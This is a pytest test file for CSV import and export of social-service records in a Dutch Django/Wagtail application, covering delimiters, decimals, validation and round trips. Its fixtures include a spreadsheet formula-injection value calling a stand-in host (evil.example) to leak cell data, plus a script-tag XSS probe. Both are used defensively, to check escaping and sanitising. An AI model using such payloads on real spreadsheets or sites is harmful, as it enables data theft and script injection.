"""CSV import and export in the contract's format: delimiters, BOM, decimals, all-or-nothing."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from wagtail.models import ModelLogEntry, Revision

from kaart.api import dienst_volledig
from kaart.csv_io import KOLOMMEN, ImportOngeldig, export_queryset, importeer, lees_csv
from kaart.factories import DienstFactory
from kaart.models import Dienst

HEADER = (
    "extern_id,naam,samenvatting,aanbieder,doelgroep,vorm,frequentie,financiering,kosten_bedrag,"
    "kosten_eenheid,landelijk,gemeenten,indicatie_nodig,leeftijd_min,leeftijd_max,"
    "laatst_gecontroleerd,email,website,postcode"
)
ROWS = [
    'imp-1,Koffie-uurtje,"Koffie, thee en een praatje.",Buurthuis (voorbeeld),'
    "ouderen|alleenstaanden,groep,structureel,gesubsidieerd,1.50,per keer,nee,GM0344|GM0363,"
    "nee,55,,2026-04-01,"
    "koffie@example.org,https://koffie.example.org/,3511 AB",
    "imp-2,Luisterlijn,Altijd iemand om mee te praten.,,iedereen,individueel,structureel,gratis,0,,"
    "ja,,nee,,,2026-03-15,,,",
]


def comma_file(rows=ROWS, header=HEADER):
    return "\r\n".join([header, *rows]) + "\r\n"


def dutch_excel(rows=ROWS, header=HEADER):
    """The same data as Dutch Excel writes it: semicolons, decimal comma, a BOM."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for line in csv.reader(io.StringIO("\n".join([header, *rows]))):
        writer.writerow([cell.replace("1.50", "1,50") for cell in line])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def snapshot():
    return {d.extern_id: dienst_volledig(d) for d in export_queryset(Dienst.objects.all())}


def test_comma_file_creates_live_services_with_every_value(db):
    result = importeer(comma_file().encode("utf-8"))
    assert (len(result.nieuw), len(result.gewijzigd), result.ongewijzigd) == (2, 0, 0)
    koffie = Dienst.objects.get(extern_id="imp-1")
    assert koffie.live and koffie.live_revision_id is not None
    assert koffie.samenvatting == "Koffie, thee en een praatje."
    assert koffie.slugs("doelgroep") == ["ouderen", "alleenstaanden"]
    assert koffie.slugs("financiering") == ["gesubsidieerd"]
    assert koffie.kosten_bedrag == Decimal("1.50")
    assert sorted(g.code for g in koffie.gemeenten.all()) == ["GM0344", "GM0363"]
    assert (koffie.leeftijd_min, koffie.leeftijd_max) == (55, None)
    assert koffie.laatst_gecontroleerd == datetime.date(2026, 4, 1)
    assert koffie.postcode == "3511 AB"
    lijn = Dienst.objects.get(extern_id="imp-2")
    assert lijn.landelijk and lijn.kosten_bedrag == Decimal("0.00")
    assert ModelLogEntry.objects.filter(action="wagtail.publish").count() == 2


def test_semicolons_bom_and_decimal_comma_give_the_same_services(db):
    importeer(comma_file().encode("utf-8"))
    from_commas = snapshot()
    Dienst.objects.all().delete()
    plan = lees_csv(dutch_excel())
    assert plan.scheidingsteken == ";" and plan.geldig, plan.fouten
    importeer(dutch_excel())
    from_excel = snapshot()
    strip = lambda snap: {k: {**v, "id": None, "url": None} for k, v in snap.items()}  # noqa: E731
    assert strip(from_excel) == strip(from_commas)


@pytest.mark.parametrize(
    ("cell", "amount"),
    [
        ("12,50", "12.50"),
        ("12.5", "12.50"),
        ("€ 7", "7.00"),
        ("1.250,00", "1250.00"),
        ("0", "0.00"),
    ],
)
def test_amounts_with_either_decimal_mark(db, cell, amount):
    row = f'x,Dienst,Samenvatting.,"{cell}"'
    importeer(comma_file([row], header="extern_id,naam,samenvatting,kosten_bedrag").encode())
    assert Dienst.objects.get(extern_id="x").kosten_bedrag == Decimal(amount)


def test_multi_values_are_trimmed_and_deduplicated(db):
    row = "x,Dienst,Samenvatting., ouderen | jongeren |ouderen||,online|telefonisch,gm0344"
    importeer(comma_file([row], header="extern_id,naam,samenvatting,doelgroep,plek,gemeenten"))
    dienst = Dienst.objects.get(extern_id="x")
    assert dienst.slugs("doelgroep") == ["jongeren", "ouderen"]  # display order
    assert dienst.slugs("plek") == ["online", "telefonisch"]
    assert [g.code for g in dienst.gemeenten.all()] == ["GM0344"]


def test_one_bad_row_means_nothing_is_saved_and_every_error_is_reported(db):
    bad = [
        *ROWS,
        "imp-3,,Samenvatting.,,marsmannetjes,groep|individueel,eenmalig|structureel,gratis,"
        "gratis,,misschien,GM9999,nee,70,60,1-4-2026,geen-mail,geen-website,ABCD",
    ]
    with pytest.raises(ImportOngeldig) as info:
        importeer(comma_file(bad).encode())
    assert Dienst.objects.count() == 0
    found = {(f.rij, f.kolom) for f in info.value.fouten}
    assert found == {
        (4, "naam"),
        (4, "doelgroep"),
        (4, "frequentie"),
        (4, "kosten_bedrag"),
        (4, "landelijk"),
        (4, "gemeenten"),
        (4, "laatst_gecontroleerd"),
    }
    # Once those are right, the model's own rules are checked as well.
    fixed = [
        *ROWS,
        "imp-3,Naam,Samenvatting.,,ouderen,groep,eenmalig,gratis,0,,nee,,nee,70,60,,"
        "geen-mail,geen-website,ABCD",
    ]
    fouten = lees_csv(comma_file(fixed)).fouten
    assert {(f.rij, f.kolom) for f in fouten} == {
        (4, "leeftijd_max"),
        (4, "email"),
        (4, "website"),
        (4, "postcode"),
    }
    assert all(f.melding for f in fouten)
    assert str(fouten[0]).startswith("rij 4, kolom ")


def test_header_problems(db):
    assert [(f.rij, f.kolom) for f in lees_csv("naam,samenvating\nA,B\n").fouten] == [
        (1, "samenvating"),
        (1, "extern_id"),
        (1, "samenvatting"),
    ]
    dubbel = lees_csv("extern_id,naam,samenvatting,naam\n").fouten
    assert [(f.rij, f.kolom) for f in dubbel] == [(1, "naam")]
    assert lees_csv(b"").fouten[0].melding == "Het bestand is leeg."


def test_not_utf8_is_explained(db):
    fouten = lees_csv(comma_file().replace("Koffie", "Café").encode("cp1252")).fouten
    assert len(fouten) == 1 and "UTF-8" in fouten[0].melding


def test_row_problems_in_the_file_itself(db):
    too_many = "a,Naam,Samenvatting.,extra\n"
    fouten = lees_csv("extern_id,naam,samenvatting\n" + too_many).fouten
    assert [(f.rij, f.kolom) for f in fouten] == [(2, "")]
    twice = "extern_id,naam,samenvatting\na,Een,Eerste.\na,Twee,Tweede.\n"
    assert [(f.rij, f.kolom) for f in lees_csv(twice).fouten] == [(3, "extern_id")]


def test_the_same_file_twice_changes_nothing(db):
    data = dutch_excel()
    importeer(data)
    before = snapshot()
    revisions = Revision.objects.count()
    plan = lees_csv(data)
    assert (plan.nieuw, plan.gewijzigd, plan.ongewijzigd) == (0, 0, 2)
    result = importeer(data)
    assert (result.nieuw, result.gewijzigd, result.ongewijzigd) == ([], [], 2)
    assert Revision.objects.count() == revisions
    assert snapshot() == before


def test_a_row_with_a_known_extern_id_updates_that_service(db):
    importeer(comma_file())
    koffie = Dienst.objects.get(extern_id="imp-1")
    changed = [ROWS[0].replace("1.50", "2.00").replace("ouderen|", ""), ROWS[1]]
    plan = lees_csv(comma_file(changed))
    rij = next(r for r in plan.rijen if r.extern_id == "imp-1")
    assert (rij.actie, rij.wijzigingen) == ("gewijzigd", ["doelgroep", "kosten_bedrag"])
    importeer(comma_file(changed))
    koffie.refresh_from_db()
    assert koffie.kosten_bedrag == Decimal("2.00")
    assert koffie.slugs("doelgroep") == ["alleenstaanden"]
    assert Dienst.objects.count() == 2
    assert koffie.revisions.count() == 2


def test_a_draft_becomes_live_and_a_locked_service_is_refused(db):
    concept = DienstFactory(extern_id="imp-2", naam="Luisterlijn", live=False)
    plan = lees_csv(comma_file())
    assert next(r for r in plan.rijen if r.extern_id == "imp-2").actie == "gewijzigd"
    concept.locked = True
    concept.save()
    fouten = lees_csv(comma_file()).fouten
    assert [(f.rij, f.kolom) for f in fouten] == [(3, "extern_id")]
    concept.locked = False
    concept.save()
    importeer(comma_file())
    concept.refresh_from_db()
    assert concept.live


def test_rich_text_is_cleaned_and_plain_text_becomes_paragraphs(db):
    rows = [
        'a,Een,Samenvatting.,"<p>Hallo <script>alert(1)</script><b>daar</b></p>"',
        'b,Twee,Samenvatting.,"Eerste alinea.\n\nTweede & laatste."',
    ]
    importeer(comma_file(rows, header="extern_id,naam,samenvatting,beschrijving"))
    assert Dienst.objects.get(extern_id="a").beschrijving == "<p>Hallo <b>daar</b></p>"
    assert Dienst.objects.get(extern_id="b").beschrijving == (
        "<p>Eerste alinea.</p><p>Tweede &amp; laatste.</p>"
    )


def test_export_then_import_round_trips(db, tmp_path):
    DienstFactory(
        naam="Alles ingevuld",
        extern_id="rond-1",
        beschrijving='<p data-block-key="x1">Met <a href="https://example.org/">link</a>.</p>',
        aanbieder="Aanbieder; met puntkomma",
        kosten_bedrag=Decimal("12.50"),
        kosten_eenheid="per maand",
        kosten_toelichting="Regel één.\nRegel twee, met komma.",
        leeftijd_min=18,
        leeftijd_max=99,
        indicatie_nodig=True,
        inkomensgrens=True,
        telefoon="0800-0000-003",
        adres="Voorbeeldstraat 1",
        postcode="1234 AB",
        plaats="Voorbeeldstad",
        laatst_gecontroleerd=datetime.date(2025, 1, 31),
        termen={
            "doelgroep": ["mantelzorgers", "ouderen"],
            "thema": ["mantelzorg"],
            "activiteit": ["praktische-hulp"],
            "vorm": ["individueel"],
            "frequentie": ["eenmalig"],
            "plek": ["aan-huis"],
            "financiering": ["commercieel"],
            "uitvoering": ["professionals"],
            "preventie": ["risicogroepen"],
            "eenzaamheidsgroep": ["risico"],
            "erkenning": ["effectief"],
        },
        gemeente_codes=["GM0014", "GM0034"],
    )
    DienstFactory(naam="Bijna leeg", extern_id="rond-2", landelijk=True)
    for puntkomma in (False, True):
        target = tmp_path / f"export-{puntkomma}.csv"
        args = [str(target)] + (["--puntkomma"] if puntkomma else [])
        call_command("export_diensten", *args, verbosity=0)
        data = target.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") is puntkomma
        header = data.decode("utf-8-sig").splitlines()[0]
        assert header.split(";" if puntkomma else ",") == KOLOMMEN
        before = snapshot()
        plan = lees_csv(data)
        assert plan.geldig, plan.fouten
        assert (plan.nieuw, plan.gewijzigd, plan.ongewijzigd) == (0, 0, 2)
        # Into an empty kaart, the export gives the same services back.
        Dienst.objects.all().delete()
        importeer(data)
        after = snapshot()
        for extern_id, values in before.items():
            values = {**values, "id": None, "url": None}
            got = {**after[extern_id], "id": None, "url": None}
            if extern_id == "rond-1":
                # The editor's block keys are not part of the content.
                values["beschrijving"] = '<p>Met <a href="https://example.org/">link</a>.</p>'
            assert got == values


def test_import_command_reports_errors_and_saves_nothing(db, tmp_path, capsys):
    bad = tmp_path / "fout.csv"
    bad.write_text(comma_file([ROWS[0], "imp-9,,,,,,,,,,,,,,,,,,"]), encoding="utf-8")
    with pytest.raises(CommandError, match="niets geïmporteerd"):
        call_command("import_diensten", str(bad))
    err = capsys.readouterr().err
    assert "rij 3, kolom 'naam': Deze kolom is verplicht." in err
    assert "rij 3, kolom 'samenvatting'" in err
    assert Dienst.objects.count() == 0


def test_import_command_check_only_and_then_for_real(db, tmp_path, capsys):
    good = tmp_path / "goed.csv"
    good.write_bytes(dutch_excel())
    call_command("import_diensten", str(good), "--controleer")
    out = capsys.readouterr().out
    assert "rij 2: Koffie-uurtje — nieuw" in out
    assert "2 nieuw, 0 gewijzigd, 0 ongewijzigd" in out
    assert Dienst.objects.count() == 0
    call_command("import_diensten", str(good))
    assert "Geïmporteerd: 2 nieuw" in capsys.readouterr().out
    call_command("import_diensten", str(good))
    assert "0 nieuw, 0 gewijzigd, 2 ongewijzigd" in capsys.readouterr().out
    with pytest.raises(CommandError):
        call_command("import_diensten", str(tmp_path / "bestaat-niet.csv"))


FORMULES = {
    "naam": '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
    "samenvatting": "+31 is het landnummer; -- en @ horen erbij.",
    "aanbieder": "@Welzijn",
    "voorwaarden": "-alleen 65+",
    "kosten_toelichting": "'=al met apostrof",
    "plaats": "'s-Hertogenbosch",
}  # a leading tab or CR is escaped too (tests/production/test_spreadsheet.py); the import trims


def test_export_escapes_formulas_and_import_takes_the_escape_off(db, tmp_path):
    DienstFactory(extern_id="formule-1", **FORMULES)
    DienstFactory(extern_id="concept-1", naam="=1+1", live=False)
    target = tmp_path / "export.csv"
    call_command("export_diensten", str(target), "--puntkomma", verbosity=0)
    data = target.read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [row["extern_id"] for row in rows] == ["formule-1"]  # the draft is left out
    rij = rows[0]
    assert rij["naam"] == "'" + FORMULES["naam"]
    assert rij["kosten_toelichting"] == "''=al met apostrof"
    assert rij["plaats"] == "'s-Hertogenbosch"
    assert not [cel for cel in rij.values() if cel.startswith(("=", "+", "-", "@", "\t", "\r"))]
    before = snapshot()
    assert lees_csv(data).ongewijzigd == 1  # the same values: nothing would change
    Dienst.objects.filter(extern_id="formule-1").delete()
    importeer(data)
    dienst = Dienst.objects.get(extern_id="formule-1")
    assert {veld: getattr(dienst, veld) for veld in FORMULES} == FORMULES
    assert {**snapshot()["formule-1"], "id": None, "url": None} == {
        **before["formule-1"],
        "id": None,
        "url": None,
    }


def test_export_command_with_drafts_only_when_asked(db, tmp_path):
    DienstFactory(extern_id="live-1")
    DienstFactory(extern_id="concept-1", live=False)
    target = tmp_path / "export.csv"
    call_command("export_diensten", str(target), "--met-concepten", verbosity=0)
    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8"))))
    assert sorted(row["extern_id"] for row in rows) == ["concept-1", "live-1"]
